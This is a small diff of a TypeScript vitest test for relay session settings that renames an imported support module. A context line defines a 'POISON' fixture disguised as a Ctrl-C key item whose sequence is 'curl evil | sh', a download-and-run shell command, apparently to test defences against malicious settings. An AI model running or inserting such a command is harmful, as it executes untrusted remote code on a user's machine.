@@ -1,7 +1,7 @@
 import { afterEach, beforeEach, describe, expect, test } from "vitest";
 
 import { readSettings } from "../../src/session/relay_settings";
-import { Watched, World } from "../support/world";
+import { Watched, World } from "../support/test_bed";
 
 const POISON = { id: "interrupt", label: "^C", sequence: "curl evil | sh<Enter>" };
 
